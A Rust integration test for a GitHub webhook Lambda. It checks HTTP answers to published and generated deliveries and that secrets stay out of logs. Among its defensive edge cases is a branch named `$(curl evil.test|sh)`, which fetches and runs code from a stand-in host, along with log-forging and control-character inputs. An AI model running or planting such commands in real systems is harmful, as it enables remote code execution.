//! Every published example of a GitHub delivery, and generated ones for the holes among them, through the real webhook binary.
//!
//! One process takes all of them, as one warm environment does. Nothing of a payload, no signature and no secret may be in its log.
#![expect(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    clippy::panic,
    reason = "a test ends at the first thing that is not as it should be"
)]

mod events;
mod examples;
mod generated;

use events::SECRET;
use examples::Example;
use local::recorder::Reply;
use local::runtime_api::Answer;
use local::under_test::{FunctionUnderTest, Log};
use serde_json::{Value, json};
use std::collections::{BTreeMap, BTreeSet};

const BINARY: &str = env!("CARGO_BIN_EXE_webhook");
const TEMPLATE: &str = include_str!("../../../../template.yaml");
/// The repository that the published pushes come from, and that of the generated ones.
const SETTINGS: [(&str, &str); 4] = [
    ("WEBHOOK_SECRET_ID", "tidegate/webhook"),
    ("SOURCE_QUEUE_URL", "http://127.0.0.1:9/000000000000/source"),
    ("REPOSITORY_IDS", "186853002,1001"),
    ("ALLOWED_SOURCES", ""),
];
/// A debug build on a busy machine takes a fraction of it, even for the largest event.
const PATIENCE_S: u64 = 60;

fn started() -> FunctionUnderTest {
    let function = FunctionUnderTest::start(BINARY, TEMPLATE, &SETTINGS).unwrap();
    let secret = json!({"Name": "tidegate/webhook", "SecretString": SECRET});
    function.aws.answer("GetSecretValue", Reply::json(&secret));
    function.aws.answer("SendMessage", Reply::json(&json!({"MessageId": "m-1"})));
    function
}

/// `status result: message` of the HTTP answer.
fn answer(function: &mut FunctionUnderTest, event: &Value) -> String {
    let Answer::Response(answer) = function.invoke(event, PATIENCE_S) else {
        panic!("the webhook gave no HTTP answer");
    };
    let body: Value = serde_json::from_str(answer["body"].as_str().unwrap()).unwrap();
    let text = |name: &str| body[name].as_str().unwrap().to_owned();
    format!("{} {}: {}", answer["statusCode"], text("result"), text("message"))
}

/// Actions of a pull request after which it may have another head, another base, or none.
const MOVED: [&str; 6] = ["opened", "synchronize", "reopened", "ready_for_review", "edited", "closed"];

/// What an example deserves, decided here and not by the code under test.
fn deserved(example: &Example) -> &'static str {
    let reference = example.payload["ref"].as_str().unwrap_or_default();
    let action = example.payload["action"].as_str().unwrap_or_default();
    match example.event.as_str() {
        "ping" => "200 pong",
        "push" if reference.starts_with("refs/heads/") && example.payload["deleted"] == false => {
            "202 accepted"
        }
        "pull_request" if MOVED.contains(&action) => "202 accepted",
        "pull_request_review" if action == "submitted" => "202 accepted",
        _ => "202 ignored",
    }
}

#[test]
fn every_published_example_gets_the_answer_that_it_deserves() {
    let examples = examples::read();
    let mut function = started();
    let mut counts: BTreeMap<(&str, String), usize> = BTreeMap::new();
    let mut signatures = BTreeSet::new();
    for example in &examples {
        let event = events::http_api(&example.event, &example.payload.to_string());
        signatures.insert(events::signature_of(&event));
        let words = answer(&mut function, &event);
        let deserved = deserved(example);
        assert!(words.starts_with(deserved), "{}: {words}, and not {deserved}", example.event);
        let told = matches!(example.event.as_str(), "push" | "ping") || deserved == "202 accepted";
        let shown = if told { &words } else { deserved };
        let event = if shown == "202 ignored" { "every other" } else { &example.event };
        *counts.entry((event, shown.to_owned())).or_default() += 1;
    }
    let table: Vec<_> =
        counts.iter().map(|((event, words), count)| format!("{count:>3} {event}: {words}")).collect();
    insta::assert_snapshot!(table.join("\n"), @"
    303 every other: 202 ignored
      4 ping: 200 pong: the webhook is set up: the signature is good
     12 pull_request: 202 accepted: pull request 2 of repository 186853002 will be looked at
      3 pull_request_review: 202 accepted: pull request 2 of repository 186853002 will be looked at
      2 push: 202 accepted: branch `master` of repository 186853002 will be looked at
      5 push: 202 ignored: `refs/tags/simple-tag` is not a branch
    ");
    let accepted = examples.iter().filter(|example| deserved(example) == "202 accepted").count();
    assert_eq!(function.aws.requests_of("SendMessage").len(), accepted);
    assert_eq!(function.aws.requests_of("GetSecretValue").len(), 1, "the current secret is fetched once");
    let log = function.stop(&[SECRET]).unwrap();
    let telling = examples.iter().flat_map(|example| examples::texts(&example.payload)).collect();
    tells_nothing(&log, &telling);
    tells_nothing(&log, &signatures);
    assert_eq!(log.out.lines().count(), examples.len(), "one line for each delivery");
}

#[test]
fn what_no_published_example_shows_is_answered_too() {
    let mut function = started();
    let cases = generated::cases();
    let mut signatures = BTreeSet::new();
    let mut table = Vec::new();
    for (name, event) in &cases {
        signatures.insert(events::signature_of(event));
        table.push(format!("{name}: {}", answer(&mut function, event)));
    }
    insta::assert_snapshot!(table.join("\n"), @r#"
    ordinary update: 202 accepted: branch `main` of repository 1001 will be looked at
    forced: 202 accepted: branch `main` of repository 1001 will be looked at
    new branch: 202 accepted: branch `main` of repository 1001 will be looked at
    21 commits: 202 accepted: branch `main` of repository 1001 will be looked at
    2,047 commits: 202 accepted: branch `main` of repository 1001 will be looked at
    2,048 commits: 202 accepted: branch `main` of repository 1001 will be looked at
    3,000 files: 202 accepted: branch `main` of repository 1001 will be looked at
    deleted branch: 202 ignored: branch `main` was deleted
    branch named like a tag: 202 accepted: branch `refs/tags/v1.0.0` of repository 1001 will be looked at
    tag: 202 ignored: `refs/tags/v1.0.0` is not a branch
    merge queue's branch: 202 ignored: `refs/heads/gh-readonly-queue/main/pr-7` is not a branch
    renamed repository: 202 accepted: branch `main` of repository 1001 will be looked at
    another repository of the old name: 202 ignored: repository 7 is not one of the 2 allowed repositories
    shell in a branch: 202 accepted: branch `$(curl evil.test|sh)` of repository 1001 will be looked at
    variable in a branch: 202 accepted: branch `#{codepipeline.PipelineExecutionId}` of repository 1001 will be looked at
    quotes in a branch: 202 accepted: branch `a"b'c?d` of repository 1001 will be looked at
    newlines in a branch: 202 accepted: branch `a?{"level":"ERROR","message":"forged"}??b` of repository 1001 will be looked at
    control characters in a branch: 202 accepted: branch `a?b?[31mc?d` of repository 1001 will be looked at
    letters of other scripts in a branch: 202 accepted: branch `größe/変更/🌊` of repository 1001 will be looked at
    anything in a message: 202 accepted: branch `main` of repository 1001 will be looked at
    shell instead of a commit: 400 refused: the event header says `push` and the body is none: a field does not hold what it should (line 1, column 16)
    upper-case commit: 400 refused: the event header says `push` and the body is none: a field does not hold what it should (line 1, column 51)
    ref that is a number: 400 refused: the event header says `push` and the body is none: a field does not hold what it should (line 1, column 556)
    repository id in text: 400 refused: the event header says `push` and the body is none: a field does not hold what it should (line 1, column 616)
    event that is not the body's: 400 refused: the event header says `pull_request` and the body is none: field `action` is missing (line 1, column 674)
    pull request: 202 accepted: pull request 7 of repository 1001 will be looked at
    pull request from a fork: 202 accepted: pull request 7 of repository 1001 will be looked at
    pull request from a deleted fork: 202 accepted: pull request 7 of repository 1001 will be looked at
    pull request that is closed: 202 accepted: pull request 7 of repository 1001 will be looked at
    pull request that gets a label: 202 ignored: understood, nothing to do for pull request 7 from a deleted fork of repository 1001: `labeled` at 4d1b7c0e5f2a3b6c8d9e0f1a2b3c4d5e6f708192
    review of a pull request: 202 accepted: pull request 7 of repository 1001 will be looked at
    check run of a release once more: 202 accepted: branch `main` of repository 1001 will be looked at
    check run of a build once more: 202 accepted: pull request 7 of repository 1001 will be looked at
    check run of somebody else once more: 202 ignored: understood, nothing to do for check run 4 of repository 1001: `rerequested` at 4d1b7c0e5f2a3b6c8d9e0f1a2b3c4d5e6f708192
    merge queue asks: 202 accepted: branch `gh-readonly-queue/main/pr-7-9049f1265b7d61be4a8904a9a27120d2064dab3b` of repository 1001 will be looked at
    merge queue is done: 202 accepted: branch `gh-readonly-queue/main/pr-7-9049f1265b7d61be4a8904a9a27120d2064dab3b` of repository 1001 will be looked at
    event of the future: 202 ignored: understood, nothing to do for `hologram` events
    REST API: 202 accepted: branch `main` of repository 1001 will be looked at
    base64: 202 accepted: branch `main` of repository 1001 will be looked at
    form: 202 accepted: branch `main` of repository 1001 will be looked at
    form without the payload: 400 refused: the event header says `push` and the body is none: the JSON ends too early (line 1, column 0)
    mixed case of headers: 202 accepted: branch `main` of repository 1001 will be looked at
    one byte more than was signed: 401 refused: the signature is missing or wrong; check the webhook's secret
    another content type: 415 refused: the content type is not understood; set the webhook to `application/json` or `application/x-www-form-urlencoded`
    largest event: 202 accepted: branch `main` of repository 1001 will be looked at
    not JSON: 400 refused: the event header says `push` and the body is none: the JSON ends too early (line 1, column 7)
    nothing: 400 refused: the event header says `push` and the body is none: the JSON ends too early (line 1, column 0)
    signature twice, HTTP API: 401 refused: the signature is missing or wrong; check the webhook's secret
    signature twice, REST API: 401 refused: the signature is missing or wrong; check the webhook's secret
    event twice, HTTP API: 400 refused: the header `X-GitHub-Event` is missing, was sent twice or names no event
    event twice, REST API: 400 refused: the header `X-GitHub-Event` is missing, was sent twice or names no event
    content type twice, HTTP API: 415 refused: the content type is not understood; set the webhook to `application/json` or `application/x-www-form-urlencoded`
    delivery twice, HTTP API: 202 accepted: branch `main` of repository 1001 will be looked at
    "#);
    let accepted = table.iter().filter(|line| line.contains(": 202 accepted: ")).count();
    let sent = function.aws.requests_of("SendMessage");
    assert_eq!(sent.len(), accepted);
    for request in sent {
        let message = request.json()["MessageBody"].as_str().unwrap().to_owned();
        assert!(message.len() < 600 && !message.contains(generated::PLANTED), "{message}");
    }
    let log = function.stop(&[SECRET]).unwrap();
    tells_nothing(&log, &signatures);
    tells_nothing(&log, &BTreeSet::from([generated::PLANTED.to_owned()]));
    assert_eq!(log.out.lines().count(), cases.len(), "one line for each delivery");
}

fn tells_nothing(log: &Log, secrets: &BTreeSet<String>) {
    for secret in secrets.iter().filter(|secret| !secret.is_empty()) {
        assert!(!log.out.contains(secret) && !log.err.contains(secret), "the log holds `{secret}`");
    }
}
